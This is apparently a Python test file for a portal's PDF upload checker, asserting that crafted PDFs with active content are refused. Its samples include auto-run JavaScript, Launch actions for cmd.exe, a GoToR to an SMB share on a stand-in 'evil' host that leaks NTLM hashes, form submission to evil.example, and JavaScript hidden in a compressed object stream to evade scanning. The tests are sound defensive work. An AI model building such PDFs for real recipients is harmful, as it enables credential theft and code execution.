"""PDF active content, on hand-made PDFs of each kind (tests/support/pdf.py, and pypdf's writer)."""

from __future__ import annotations

import io
import zlib

import pytest
from pypdf import PdfWriter

from portal.filecheck import pdf_content
from portal.filecheck.pdf_content import PdfFinding, check_pdf
from tests.support.pdf import make_pdf


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_plain_pdf_is_accepted() -> None:
    assert check_pdf(make_pdf(padding=10)) is None
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    assert check_pdf(_written(writer)) is None


def test_an_open_action_that_only_shows_a_page_is_accepted() -> None:
    assert check_pdf(make_pdf(catalog_extra=b" /OpenAction [3 0 R /Fit]")) is None
    assert check_pdf(make_pdf(catalog_extra=b" /OpenAction << /S /GoTo /D [3 0 R /Fit] >>")) is None
    assert (
        check_pdf(make_pdf(catalog_extra=b" /AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >>")) is None
    )


@pytest.mark.parametrize(
    ("pdf", "finding"),
    [
        # Document-level JavaScript, as Acrobat writes it (the /JavaScript name tree)
        (
            make_pdf(
                [b"<< /JavaScript 5 0 R >>", b"<< /Names [(init) 6 0 R] >>",
                 b"<< /S /JavaScript /JS (app.alert(1)) >>"],
                catalog_extra=b" /Names 4 0 R",
            ),
            pdf_content.JAVASCRIPT,
        ),
        # JavaScript run at opening, inline in the catalog
        (
            make_pdf(catalog_extra=b" /OpenAction << /S /JavaScript /JS (this.print()) >>"),
            pdf_content.JAVASCRIPT,
        ),
        # JavaScript behind an additional action of the page, its name escaped (#61 = a)
        (
            make_pdf([b"<< /S /J#61vaScript /JS 5 0 R >>", b"<< >>"],
                     streams={5: b"app.launchURL('x')"},
                     catalog_extra=b" /AA << /WC 4 0 R >>"),
            pdf_content.JAVASCRIPT,
        ),
        # A link that launches a program
        (
            make_pdf([b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                      b"/A << /S /Launch /F (cmd.exe) >> >>"]),
            pdf_content.LAUNCH,
        ),
        # An opening that launches a program
        (
            make_pdf(catalog_extra=b" /OpenAction << /S /Launch /Win << /F (calc.exe) >> >>"),
            pdf_content.LAUNCH,
        ),
        # An opening that submits a form or opens a URL
        (
            make_pdf(catalog_extra=b" /OpenAction << /S /URI /URI (https://example.org/) >>"),
            pdf_content.OPEN_ACTION,
        ),
        # An XFA form
        (
            make_pdf([b"<< /Fields [] /XFA 5 0 R >>", b"<< >>"],
                     streams={5: b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"},
                     catalog_extra=b" /AcroForm 4 0 R"),
            pdf_content.XFA,
        ),
        # Closing the document opens a remote one on an SMB share (leaks the NTLM hash)
        (
            make_pdf(catalog_extra=b" /AA << /WC << /S /GoToR /F (\\\\evil\\share\\x.pdf) "
                                   b"/D [0 /Fit] >> >>"),
            pdf_content.REMOTE_ACTION,
        ),
        # A widget that submits the form to a server when its page opens
        (
            make_pdf([b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nom) /Rect [0 0 9 9] "
                      b"/AA << /PO << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) "
                      b">> >> >> >>"]),
            pdf_content.REMOTE_ACTION,
        ),
        # A link to a remote document, clicked or not
        (
            make_pdf([b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
                      b"/A << /S /GoToR /F (//evil/share/x.pdf) /D [0 /Fit] >> >>"]),
            pdf_content.REMOTE_ACTION,
        ),
        # A page that opens a URL, hides a field or runs a menu item by itself
        (
            make_pdf([b"<< /O << /S /URI /URI (https://evil.example/) >> >>"],
                     catalog_extra=b" /AA 4 0 R"),
            pdf_content.AUTOMATIC_ACTION,
        ),
        (
            make_pdf(catalog_extra=b" /AA << /WC << /S /GoTo /D [3 0 R /Fit] "
                                   b"/Next << /S /Named /N /Print >> >> >>"),
            pdf_content.AUTOMATIC_ACTION,
        ),
        (
            make_pdf(catalog_extra=b" /AA << /WS << /S /Hide /T (nom) >> >>"),
            pdf_content.AUTOMATIC_ACTION,
        ),
    ],
    ids=["names-tree", "open-action-js", "escaped-name-js", "launch-link", "launch-open",
         "uri-open", "xfa", "aa-gotor-smb", "aa-submit-form", "gotor-link", "aa-uri",
         "aa-next-named", "aa-hide"],
)  # fmt: skip
def test_active_content_is_refused(pdf: bytes, finding: PdfFinding) -> None:
    assert check_pdf(pdf) == finding
    assert finding.message_fr.startswith("PDF refusé")


def test_javascript_hidden_in_a_compressed_object_stream_is_found() -> None:
    # Object 5 (the script action) lives in object stream 4 (PDF 1.5), compressed: no byte of
    # the file spells /JavaScript.
    inner = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"5 0 "
    body = header + inner
    packed = zlib.compress(body)
    objects = [
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode >>" % len(header),
    ]
    pdf = bytearray(make_pdf(objects, streams={4: packed}, catalog_extra=b" /OpenAction 5 0 R"))
    assert b"JavaScript" not in pdf
    # The cross-reference table must say where object 5 is: rebuild it as a stream (type 2).
    assert check_pdf(_with_object_stream_xref(bytes(pdf))) == pdf_content.JAVASCRIPT


def _with_object_stream_xref(pdf: bytes) -> bytes:
    """Replace the classic xref table of *pdf* by an xref stream that puts object 5 in 4."""
    import re

    start = pdf.index(b"xref\n")
    offsets = [int(m) for m in re.findall(rb"(\d{10}) 00000 n", pdf[start:])]
    head = pdf[:start]
    rows = [b"\x00\x00\x00\x00\xff\xff"]
    rows += [b"\x01" + offset.to_bytes(4, "big") + b"\x00" for offset in offsets]
    rows.append(b"\x02" + (4).to_bytes(4, "big") + b"\x00")  # object 5: in 4, index 0
    xref_number = len(offsets) + 2
    rows.append(b"\x01" + len(head).to_bytes(4, "big") + b"\x00")
    data = b"".join(rows)
    xref = (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(data))
        + data
        + b"\nendstream\nendobj\n"
    )
    return head + xref + b"startxref\n%d\n%%%%EOF\n" % len(head)


def test_embedded_files_of_refused_types_are_refused() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("outil.exe", b"MZ\x90\x00" + b"\x00" * 200)
    assert check_pdf(_written(writer)) == pdf_content.EMBEDDED_REFUSED
    # a web page disguised as a text file is refused on its content
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("notes.txt", b"<html><script>alert(1)</script></html>")
    assert check_pdf(_written(writer)) == pdf_content.EMBEDDED_REFUSED


def test_embedded_files_of_accepted_types_are_accepted() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("notes.csv", b"nom;date\nDupont;2026-01-01\n")
    assert check_pdf(_written(writer)) is None


def test_a_pdf_embedding_a_pdf_with_javascript_is_refused() -> None:
    inner = make_pdf(catalog_extra=b" /OpenAction << /S /JavaScript /JS (1) >>")
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("annexe.pdf", inner)
    assert check_pdf(_written(writer)) == pdf_content.EMBEDDED_REFUSED


def test_encrypted_unreadable_and_oversized_pdfs_are_refused() -> None:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="secret", owner_password="owner")
    assert check_pdf(_written(writer)) == pdf_content.ENCRYPTED
    # restrictions only (an owner password): readable, checked, accepted
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="owner")
    assert check_pdf(_written(writer)) is None
    assert check_pdf(b"%PDF-1.7\n" + b"x" * 100) == pdf_content.UNREADABLE
    assert check_pdf(b"%PDF" + b" " * pdf_content.PDF_CHECK_MAX_BYTES) == pdf_content.TOO_LARGE
